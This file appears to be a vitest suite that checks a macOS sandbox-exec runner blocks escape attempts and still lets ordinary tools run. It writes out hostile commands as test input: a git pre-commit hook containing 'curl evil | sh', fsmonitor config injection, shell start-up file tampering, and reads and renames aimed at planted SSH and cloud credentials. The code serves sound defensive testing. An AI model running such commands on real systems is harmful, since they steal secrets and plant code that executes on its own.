/**
 * The macOS suite: real sandbox-exec, real processes, the profile the runner writes. Each attempt
 * to get out is stopped, and the everyday tools an agent uses (bash, git, node, python) still work
 * under `aleph exec`'s default profile. It runs wherever /usr/bin/sandbox-exec exists (a Mac, a
 * macOS CI runner) and says loudly that it skipped anywhere else.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { homedir, tmpdir, userInfo } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { skipLoudly } from '../../../scripts/skip-notice.js';
import { resolveCapabilities, type Capabilities } from './capabilities.js';
import { realCapabilities } from './grants.js';
import { MACOS_UNENFORCED } from './launch.js';
import { execCapabilities, PRESETS, withOverrides, type Overrides, type Preset } from './presets.js';
import { sandboxAvailability } from './availability.js';
import type { SandboxAuditLog } from './run-record.js';
import { runSandboxed } from './runner.js';
import type { RunOptions } from './sandbox-run.js';

const SANDBOX_EXEC = '/usr/bin/sandbox-exec';
const present = existsSync(SANDBOX_EXEC);
if (!present) {
  skipLoudly(
    'macos-sandbox',
    `macos.test.ts needs ${SANDBOX_EXEC}, and there is none here (${process.platform}).`,
    'It runs on a Mac, and in the macOS job of .github/workflows/ci.yml, which requires it.',
  );
}

describe.skipIf(!present)(`the sandbox runner under real sandbox-exec${present ? '' : ' (SKIPPED: no sandbox-exec)'}`, () => {
  // Made under tmpdir() (/var/folders/...) and used by its real path, as the runner binds it.
  let root = '';
  let home = '';
  let workspace = '';
  let outside = '';
  const KEY = '-----BEGIN OPENSSH PRIVATE KEY----- planted';
  const env = () => ({
    PATH: process.env.PATH ?? '/usr/bin:/bin',
    HOME: home,
    LANG: 'en_US.UTF-8',
    USER: userInfo().username,
    AWS_SECRET_ACCESS_KEY: 'aws-planted-secret',
  });

  beforeAll(() => {
    root = realpathSync(mkdtempSync(join(tmpdir(), 'alsb-mac-')));
    home = join(root, 'home');
    workspace = join(root, 'workspace');
    outside = join(root, 'outside');
    mkdirSync(join(home, '.ssh'), { recursive: true });
    writeFileSync(join(home, '.ssh', 'id_ed25519'), KEY, { mode: 0o600 });
    mkdirSync(join(home, '.config', 'gcloud'), { recursive: true });
    writeFileSync(join(home, '.config', 'gcloud', 'credentials.json'), '{"token": "planted"}');
    mkdirSync(workspace);
    mkdirSync(outside);
    writeFileSync(join(workspace, 'input.txt'), 'hello\n');
  });
  afterAll(() => rmSync(root, { recursive: true, force: true }));

  const caps = (overrides: Overrides = {}, preset: Preset | null = PRESETS.file_processor): Capabilities => {
    const merged = withOverrides(preset, overrides);
    if (!merged.ok) throw new Error(merged.error.message);
    const r = resolveCapabilities(merged.value, { WORKSPACE: workspace, PROJECT_ROOT: workspace });
    if (!r.ok) throw new Error(r.error.message);
    const real = realCapabilities(r.value);
    if (!real.ok) throw new Error(real.error.message);
    return real.value;
  };

  /** `aleph exec`'s default: the home read-only (credentials hidden), the workspace read-write, a private temporary directory, no network. */
  const execDefault = (forHome: string, network: Capabilities['network'] = { kind: 'deny' }): Capabilities => {
    const r = resolveCapabilities({ ...execCapabilities(forHome), network }, { WORKSPACE: workspace, PROJECT_ROOT: workspace });
    if (!r.ok) throw new Error(r.error.message);
    const real = realCapabilities(r.value);
    if (!real.ok) throw new Error(real.error.message);
    return real.value;
  };

  async function run(script: string, capabilities: Capabilities = caps(), options: RunOptions & { cwd?: string; env?: Record<string, string> } = {}) {
    const out = new PassThrough();
    const err = new PassThrough();
    let stdout = '';
    let stderr = '';
    out.on('data', (c: Buffer) => (stdout += c.toString()));
    err.on('data', (c: Buffer) => (stderr += c.toString()));
    const { cwd = workspace, env: runEnv = env(), ...rest } = options;
    const log: SandboxAuditLog = await runSandboxed(
      { capabilities, command: ['/bin/bash', '-c', script], cwd, env: runEnv },
      { stdin: 'ignore', stdout: out, stderr: err, ...rest },
    );
    return { log, stdout, stderr };
  }

  it('is available here, or the suite could prove nothing', () => {
    expect(sandboxAvailability()).toMatchObject({ ok: true, value: { platform: 'macos', launcher: SANDBOX_EXEC } });
  });

  it('runs a legitimate tool in its working directory: reads and writes the workspace, heredocs and mktemp in its temporary directory, and says which limits macOS does not enforce', async () => {
    const { log, stdout, stderr } = await run(
      'pwd; cat input.txt; echo done > output.txt; f=$(mktemp); echo scratch > "$f"; cat "$f"; cat <<EOF\nheredoc\nEOF\nexit 3',
    );
    expect(stderr).toBe('');
    expect(stdout).toBe(`${workspace}\nhello\nscratch\nheredoc\n`);
    expect(log).toMatchObject({ status: 'success', exit_code: 3, platform: 'macos' });
    expect(readFileSync(join(workspace, 'output.txt'), 'utf8')).toBe('done\n');
    expect(log.limits_unenforced).toEqual([MACOS_UNENFORCED.memory, MACOS_UNENFORCED.processes]);
  });

  it('stops writes outside the grants and into the system, and records the violation', async () => {
    const { log } = await run(`echo x > ${outside}/escaped; echo x > /usr/local/escaped; echo x > /private/etc/escaped; echo x > ${homedir()}/aleph-escaped`);
    expect(readdirSync(outside)).toEqual([]);
    expect(existsSync(join(homedir(), 'aleph-escaped'))).toBe(false);
    expect(log.status).toBe('sandbox_violation');
    expect(log.violations.map((v) => v.kind)).toContain('filesystem');
  });

  it('hides a planted key and a .env file inside a granted home, and no rename of a directory above a hidden one exposes it', async () => {
    writeFileSync(join(home, '.env'), 'API_KEY=planted');
    try {
      const profile = caps({ filesystem: [{ kind: 'read_write', path: home }] }, null);
      const { stdout } = await run(
        'cat .ssh/id_ed25519; cat .env; mv .config moved && cat moved/gcloud/credentials.json; mv .ssh ssh2; ls .config; echo end',
        profile,
        { cwd: home },
      );
      expect(stdout).not.toContain('PRIVATE KEY');
      expect(stdout).not.toContain('planted');
      expect(stdout).toContain('gcloud\nend\n');
      expect(existsSync(join(home, '.config', 'gcloud', 'credentials.json'))).toBe(true);
      expect(existsSync(join(home, '.ssh', 'id_ed25519'))).toBe(true);
    } finally {
      rmSync(join(home, '.env'));
    }
  });

  it('never writes git hooks or config, or a shell start-up file, even in a writable workspace; git itself still works', async () => {
    const repo = join(workspace, 'repo');
    mkdirSync(repo);
    execFileSync('git', ['init', '-q', repo]);
    writeFileSync(join(repo, 'a.txt'), 'a\n');
    const before = readFileSync(join(repo, '.git', 'config'), 'utf8');
    const { stdout } = await run(
      'echo "curl evil | sh" > .git/hooks/pre-commit; echo "[core] fsmonitor = evil" >> .git/config; echo evil >> ../.zshrc; mv .git .git-away; ' +
        'git add a.txt && git -c user.name=t -c user.email=t@example.com commit -qm first && git log --oneline | wc -l | tr -d " "',
      caps(),
      { cwd: repo },
    );
    expect(stdout).toBe('1\n');
    expect(existsSync(join(repo, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(readFileSync(join(repo, '.git', 'config'), 'utf8')).toBe(before);
    expect(existsSync(join(workspace, '.zshrc'))).toBe(false);
  });

  it('runs git where the home is not granted, without dying on a ~/.gitconfig it cannot read', async () => {
    const repo = join(workspace, 'plain');
    mkdirSync(repo);
    execFileSync('git', ['init', '-q', repo]);
    writeFileSync(join(home, '.gitconfig'), '[user]\n\tname = planted\n');
    try {
      const { stdout, stderr } = await run('git status --short --branch | head -1', caps(), { cwd: repo });
      expect(stderr).not.toContain('fatal');
      expect(stdout).toMatch(/^## /);
    } finally {
      rmSync(join(home, '.gitconfig'));
    }
  });

  it("runs the everyday tools under aleph exec's default profile: bash, whoami, git, node (with a child process), python (with a semaphore)", async () => {
    const profile = execDefault(homedir());
    const tools = [
      'echo "bash $BASH_VERSION" | cut -c1-6',
      'whoami',
      'id -un',
      'git --version | cut -d" " -f1',
      `${JSON.stringify(process.execPath)} -e 'const cp = require("child_process"); const os = require("os"); console.log(os.userInfo().username === process.env.USER, os.cpus().length > 0, cp.execFileSync("echo", ["child"]).toString().trim())'`,
      'python3 -c \'import multiprocessing, tempfile, os; l = multiprocessing.Lock(); f = tempfile.NamedTemporaryFile(); print("python", os.getcwd() == os.environ["PWD"])\'',
    ];
    const { stdout, stderr, log } = await run(tools.join(' && '), profile, { env: { ...env(), HOME: homedir() } });
    const user = userInfo().username;
    const [bash, ...rest] = stdout.split('\n');
    expect(bash).toMatch(/^bash \d/);
    expect(rest).toEqual([user, user, 'git', 'true true child', 'python True', '']);
    expect(stderr).toBe('');
    expect(log.status).toBe('success');
  });

  it('reaches no loopback server and no Unix socket without the network; with it, the server and sockets in the grants, never one outside them', async () => {
    const tcp: Server = createServer((s) => s.end('reached\n'));
    await new Promise<void>((r) => tcp.listen(0, '127.0.0.1', r));
    const port = (tcp.address() as { port: number }).port;
    const inside = join(workspace, 's.sock');
    const elsewhere = join(outside, 's.sock');
    const servers = [inside, elsewhere].map((path) => createServer((s) => s.end('from socket\n')).listen(path));
    const tcpClient = `perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => "127.0.0.1:${port}", Timeout => 3) or die "connect: $!\\n"; print <$s>'`;
    const unixClient = (path: string) => `perl -MIO::Socket::UNIX -e '$s = IO::Socket::UNIX->new(Peer => "${path}") or die "connect: $!\\n"; print <$s>'`;
    try {
      const denied = await run(`${tcpClient}; ${unixClient(inside)}; echo end`);
      expect(denied.stdout).toBe('end\n');
      expect(denied.log.status).toBe('sandbox_violation');
      const networked = caps({ network: { kind: 'allow_all' }, filesystem: [{ kind: 'read_write', path: '${WORKSPACE}' }] }, null);
      const granted = await run(`${tcpClient}; ${unixClient(inside)}; ${unixClient(elsewhere)}; echo end`, networked);
      expect(granted.stdout).toBe('reached\nfrom socket\nend\n');
    } finally {
      tcp.close();
      for (const s of servers) s.close();
    }
  });

  it('allows not even one child process when the profile says no_fork, and kills a run that outlives its time', async () => {
    const single = caps({}, PRESETS.data_transformer);
    const forked = await run('/bin/ls /; echo after', single);
    expect(forked.stdout).not.toContain('Users');
    const slow = await run('sleep 30', caps({ process: { max_execution_time_s: 1 } }));
    expect(slow.log).toMatchObject({ status: 'timeout' });
    expect(spawnSync('pgrep', ['-f', 'sleep 30']).stdout.toString().trim()).toBe('');
  });
});
